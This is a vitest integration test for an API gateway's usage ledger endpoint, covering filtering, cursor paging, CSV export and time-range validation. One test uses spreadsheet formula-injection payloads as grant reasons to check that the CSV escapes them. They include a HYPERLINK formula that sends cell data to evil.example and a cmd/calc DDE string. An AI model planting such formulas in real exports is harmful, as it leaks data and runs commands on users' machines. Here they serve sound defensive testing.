import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  admin,
  call,
  callTool,
  everyPage,
  fundedAccount,
  signUp,
  startGateway,
  type TestGateway,
} from "../helpers/gateway.js";
import { shardOf } from "../../src/books/exporter.js";
import { usagePage } from "../../src/books/usage.js";
import { freshDatabase } from "../helpers/postgres.js";

/**
 * GET /api/v1/usage reads the books (PostgreSQL, or PGlite in the embedded mode) merged with
 * what the store has not exported yet: the answers equal what this test computes from the calls
 * it made — whole, filtered by tool, key, kind and time, paged by cursor, and as CSV.
 */
interface Entry {
  id: string;
  at: string;
  kind: string;
  amount: number;
  balance: number;
  request_id: string;
  tool: string | null;
  key_id: string | null;
}

describe.each([
  ["embedded: in-memory store with PGlite", "memory", () => Promise.resolve("pglite://memory")],
  ["Redis store with PostgreSQL", "redis", () => freshDatabase()],
] as const)("usage from the books, %s", (_name, store, database) => {
  let gw: TestGateway;
  let key: string;
  let keyId: string;
  let otherKey: { id: string; key: string };
  const expected: { kind: string; amount: number; tool: string | null; key_id: string | null }[] =
    [];
  let between = "";

  beforeAll(async () => {
    gw = await startGateway({
      store,
      env: { DATABASE_URL: await database(), BOOKS_EXPORT_INTERVAL_MS: "100" },
    });
    ({ key, keyId } = await fundedAccount(gw.url, 200, "business"));
    const made = await call(`${gw.url}/api/v1/keys`, { key, body: { name: "second" } });
    otherKey = { id: made.body.id, key: made.body.key };
    expected.push(
      { kind: "grant", amount: 25, tool: null, key_id: null },
      { kind: "grant", amount: 175, tool: null, key_id: null },
    );
    for (let i = 0; i < 3; i++) {
      expect((await callTool(gw.url, key, "hash", { text: `a${i}` })).status).toBe(200);
      expected.push({ kind: "debit", amount: -1, tool: "hash", key_id: keyId });
    }
    between = new Date().toISOString();
    await new Promise((r) => setTimeout(r, 5));
    for (let i = 0; i < 2; i++) {
      expect(
        (await callTool(gw.url, otherKey.key, "text-diff", { old: `x${i}`, new: "y" })).status,
      ).toBe(200);
      expected.push({ kind: "debit", amount: -1, tool: "text-diff", key_id: otherKey.id });
    }
    // A call the worker refuses is refunded: a debit and its refund, both naming the tool and key.
    const refused = await callTool(gw.url, key, "regex-test", { pattern: "(", text: "x" });
    expect(refused.status).toBe(422);
    expected.push(
      { kind: "debit", amount: -1, tool: "regex-test", key_id: keyId },
      { kind: "refund", amount: 1, tool: "regex-test", key_id: keyId },
    );
    expected.reverse(); // newest first, as the API lists
  });
  afterAll(() => gw?.stop());

  const exported = async () => {
    for (const deadline = Date.now() + 30_000; Date.now() < deadline; ) {
      await gw.services.books!.exportNow();
      if ((await gw.services.store.ledgerBacklog({ limit: 1000 })).items.length === 0) return;
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error("the export did not catch up in 30 s");
  };
  const all = (query: string) => everyPage<Entry>(`${gw.url}/api/v1/usage?limit=2${query}`, key);
  const shape = (entries: Entry[]) =>
    entries.map(({ kind, amount, tool, key_id }) => ({ kind, amount, tool, key_id }));

  it("lists every entry the calls made, once, paging by cursor, before and after the export", async () => {
    // Before: much of it may still be in the store; after: all of it is in the books and the store holds none.
    expect(shape(await all(""))).toEqual(expected);
    await exported();
    expect(
      (
        await gw.services.store.ledger((await call(`${gw.url}/api/v1/account`, { key })).body.id, {
          limit: 10,
        })
      ).items,
    ).toEqual([]);
    const entries = await all("");
    expect(shape(entries)).toEqual(expected);
    expect(entries[0]!.balance).toBe(195);
    expect(new Set(entries.map((e) => e.id)).size).toBe(entries.length);
  });

  it("filters by tool, key, kind and time range", async () => {
    await exported();
    expect(shape(await all("&tool=hash"))).toEqual(expected.filter((e) => e.tool === "hash"));
    expect(shape(await all(`&key=${otherKey.id}`))).toEqual(
      expected.filter((e) => e.key_id === otherKey.id),
    );
    expect(shape(await all("&kind=refund"))).toEqual(expected.filter((e) => e.kind === "refund"));
    expect(shape(await all(`&from=${encodeURIComponent(between)}`))).toEqual(expected.slice(0, 4));
    expect(shape(await all(`&to=${encodeURIComponent(between)}`))).toEqual(expected.slice(4));
    expect(shape(await all(`&tool=regex-test&kind=debit&key=${keyId}`))).toEqual([expected[1]]);
  });

  it("exports CSV with Accept: text/csv or format=csv, the same rows as JSON", async () => {
    const json = (await call(`${gw.url}/api/v1/usage?limit=100`, { key })).body.data as Entry[];
    for (const init of [
      { url: "?format=csv", headers: {} as Record<string, string> },
      { url: "", headers: { accept: "text/csv" } },
    ]) {
      const res = await fetch(`${gw.url}/api/v1/usage${init.url}`, {
        headers: { "x-api-key": key, ...init.headers },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
      const parsed = Papa.parse<Record<string, string>>((await res.text()).trim(), {
        header: true,
      });
      expect(parsed.meta.fields).toEqual([
        "id",
        "at",
        "kind",
        "amount",
        "balance",
        "reason",
        "request_id",
        "tool",
        "key_id",
      ]);
      expect(
        parsed.data.map((r) => [r.id, r.kind, Number(r.amount), r.tool || null, r.key_id || null]),
      ).toEqual(json.map((e) => [e.id, e.kind, e.amount, e.tool, e.key_id]));
    }
    const paged = await fetch(`${gw.url}/api/v1/usage?format=csv&limit=3`, {
      headers: { "x-api-key": key },
    });
    // Absolute, on PUBLIC_BASE_URL (version-deprecation.test.ts follows one under a path).
    const base = gw.services.config.publicBaseUrl;
    expect(paged.headers.get("link")).toMatch(
      /^<http:\/\/localhost:\d+\/api\/v1\/usage\?format=csv&limit=3&cursor=\d+-\d+>; rel="next"$/,
    );
    // Chosen by Accept: the link still names the CSV and its page size, for a client that
    // follows it without sending Accept again.
    const accepted = await fetch(`${gw.url}/api/v1/usage?kind=debit&limit=3`, {
      headers: { "x-api-key": key, accept: "text/csv" },
    });
    const link = /^<(.+)>; rel="next"$/.exec(accepted.headers.get("link") ?? "")?.[1];
    expect(link!.startsWith(`${base}/`)).toBe(true);
    expect(link!.slice(base.length)).toMatch(
      /^\/api\/v1\/usage\?kind=debit&limit=3&format=csv&cursor=\d+-\d+$/,
    );
    const followed = await fetch(`${gw.url}${link!.slice(base.length)}`, {
      headers: { "x-api-key": key },
    });
    expect(followed.headers.get("content-type")).toMatch(/^text\/csv/);
    expect((await followed.text()).trim().split("\r\n")).toHaveLength(4);
    // No rows: the header alone, ended once (a second line end reads as an empty row).
    const empty = await fetch(`${gw.url}/api/v1/usage?format=csv&tool=no-such-tool`, {
      headers: { "x-api-key": key },
    });
    expect(await empty.text()).toBe("id,at,kind,amount,balance,reason,request_id,tool,key_id\r\n");
  });

  it("escapes free text that a spreadsheet would run as a formula in the CSV, not in the JSON", async () => {
    const other = await fundedAccount(gw.url, 25, "business");
    const reasons = [
      '=HYPERLINK("https://evil.example","x")',
      "+1+cmd",
      "-2+3",
      "@SUM(A1)",
      // (A reason is one line of readable text now; a line break after the formula, which
      // papaparse's own pattern missed, is refused at the grant: 422, as any control character.)
      '=HYPERLINK("https://evil.example/?"&A1,"click") x',
      "+1+cmd|' /C calc'!A0 z",
      "\uFF1D1+1", // a full-width equals sign
    ];
    for (const reason of reasons)
      expect(
        (
          await admin(gw.url, `/accounts/${other.accountId}/credits`, {
            body: { amount: 1, reason },
          })
        ).status,
      ).toBe(201);
    const res = await fetch(`${gw.url}/api/v1/usage?format=csv&kind=grant&limit=7`, {
      headers: { "x-api-key": other.key },
    });
    const rows = Papa.parse<Record<string, string>>((await res.text()).trim(), { header: true });
    expect(rows.data.map((r) => [r.reason, r.amount])).toEqual(
      [...reasons].reverse().map((reason) => [`'${reason}`, "1"]),
    );
    const json = await call(`${gw.url}/api/v1/usage?kind=grant&limit=7`, { key: other.key });
    expect(json.body.data.map((e: Entry & { reason: string }) => e.reason)).toEqual(
      [...reasons].reverse(),
    );
  });

  it("keeps the cursor contract: a cursor it never handed out is 400 invalid_cursor", async () => {
    for (const cursor of ["garbage", "1-2-3", "99999999999999999999-99999999999999999999"]) {
      const res = await call(`${gw.url}/api/v1/usage?cursor=${cursor}`, { key });
      expect([res.status, res.body.error?.code, res.body.error?.param]).toEqual([
        400,
        "invalid_cursor",
        "cursor",
      ]);
    }
    const res = await call(`${gw.url}/api/v1/usage?limit=101`, { key });
    expect([res.status, res.body.error?.param]).toEqual([422, "limit"]);
  });

  it("answers a range with no instant in it (from at or after to) with 400 invalid_range, not an empty list", async () => {
    // The same instant on both sides, the later one written in another zone.
    const later = encodeURIComponent("2026-11-27T18:00:00+02:00");
    const earlier = encodeURIComponent("2026-11-27T15:00:00Z");
    for (const query of [`from=${later}&to=${earlier}`, `from=${later}&to=${later}`]) {
      const res = await call(`${gw.url}/api/v1/usage?${query}`, { key });
      expect([res.status, res.body.error?.code, res.body.error?.param]).toEqual([
        400,
        "invalid_range",
        "from",
      ]);
    }
    const res = await call(`${gw.url}/api/v1/usage?from=${earlier}&to=${later}`, { key });
    expect(res.status).toBe(200);
  });

  it("answers a time before year 1 (year 0000, or year 1 less its offset) 422 naming it, where the books' query failed 500", async () => {
    const offset = encodeURIComponent("0001-01-01T00:00:00+14:00");
    for (const [path, param] of [
      ["/api/v1/usage?from=0000-01-01", "from"],
      [`/api/v1/usage?to=${offset}`, "to"],
      ["/api/v1/events?to=0000-06-01T00:00:00Z", "to"],
      [`/api/v1/events?from=${offset}`, "from"],
      ["/api/v1/analytics?from=0000-01-01&to=0000-01-02&granularity=day", "from"],
    ] as const) {
      const res = await call(`${gw.url}${path}`, { key });
      expect([res.status, res.body.error?.code, res.body.error?.param], path).toEqual([
        422,
        "validation_failed",
        param,
      ]);
      expect(res.body.error.message, path).toContain("0001-01-01T00:00:00Z");
    }
    const first = await call(`${gw.url}/api/v1/usage?from=0001-01-01`, { key });
    expect(first.status).toBe(200);
    // Times the gateway works out itself stay within years 1 to 9999 too: analytics' default
    // start for a `to` early in year 1, and an events cursor dated past 9999 (both were 500).
    for (const [path, from] of [
      ["/api/v1/analytics?to=0001-01-01T10:00:00Z", "0001-01-01T00:00:00.000Z"],
      ["/api/v1/analytics?to=0001-01-20&granularity=day", "0001-01-01T00:00:00.000Z"],
    ] as const) {
      const res = await call(`${gw.url}${path}`, { key });
      expect([res.status, res.body.from, res.body.data], path).toEqual([200, from, []]);
    }
    const events = await call(`${gw.url}/api/v1/events`, { key });
    for (const cursor of ["253402300800000-evt_a", "999999999999999-evt_a"]) {
      const res = await call(`${gw.url}/api/v1/events?cursor=${cursor}`, { key });
      expect([res.status, res.body.data], cursor).toEqual([200, events.body.data]);
    }
  });

  it("takes a date alone as its 00:00 UTC in every list's from and to, events' too", async () => {
    for (const list of ["usage", "events"]) {
      const all = await call(`${gw.url}/api/v1/${list}`, { key });
      const res = await call(`${gw.url}/api/v1/${list}?from=2000-01-01&to=9999-12-31`, { key });
      expect([res.status, res.body.data], list).toEqual([200, all.body.data]);
    }
  });

  it("lists the entries the exporter moves while a listing reads them: each is in the store or the books when read", async () => {
    const store = gw.services.store;
    const { accountId } = await signUp(gw.url);
    // Held, the exporter's lease keeps the background export off this account until the listing runs.
    const lease = `books-export:${shardOf(accountId, gw.services.config.books!.shards)}`;
    let token: string | null = null;
    while (!(token = await store.acquireLock(lease, 30_000)))
      await new Promise((r) => setTimeout(r, 20));
    const grant = (i: number) =>
      store.topUp(accountId, "grant", { amount: 1, reason: "r", requestId: `scan-${i}` });
    for (let i = 0; i < 50; i++) await grant(i);
    const to = Date.now() + 1;
    await new Promise((r) => setTimeout(r, 5));
    // Newer entries outside the range: more than one store page to scan past.
    for (let i = 50; i < 300; i++) await grant(i);
    // The exporter catches up just as the listing reads its second page of the store.
    const reading = new Proxy(store, {
      get(target, name, receiver) {
        if (name !== "ledger") return Reflect.get(target, name, receiver);
        return async (account: string, page: { cursor?: string; limit: number }) => {
          if (page.cursor && token) {
            await store.releaseLock(lease, token);
            token = null;
            await exported();
          }
          return target.ledger(account, page);
        };
      },
    });
    try {
      const db = await gw.services.books!.ready(1000);
      const page = await usagePage(reading, db, accountId, { to }, { limit: 100 });
      expect(page.items.map((e) => e.requestId)).toEqual([
        ...Array.from({ length: 50 }, (_, i) => `scan-${49 - i}`),
        expect.stringMatching(/^req_/), // the sign-up grant
      ]);
    } finally {
      if (token) await store.releaseLock(lease, token);
    }
  });

  it("records each call's request record (tool, key, status, latency, credits) in the books", async () => {
    await exported();
    const db = await gw.services.books!.ready(1000);
    const rows = await db.query<{
      tool: string;
      key_id: string;
      status: number;
      outcome: string;
      credits: string | number;
      latency_ms: number;
    }>(
      "SELECT tool, key_id, status, outcome, credits, latency_ms FROM request_records ORDER BY at",
    );
    expect(
      rows.map((r) => [r.tool, r.key_id, Number(r.status), r.outcome, Number(r.credits)]),
    ).toEqual([
      ["hash", keyId, 200, "ok", 1],
      ["hash", keyId, 200, "ok", 1],
      ["hash", keyId, 200, "ok", 1],
      ["text-diff", otherKey.id, 200, "ok", 1],
      ["text-diff", otherKey.id, 200, "ok", 1],
      ["regex-test", keyId, 422, "validation_failed", 0],
    ]);
    expect(rows.every((r) => Number(r.latency_ms) >= 0)).toBe(true);
  });
});
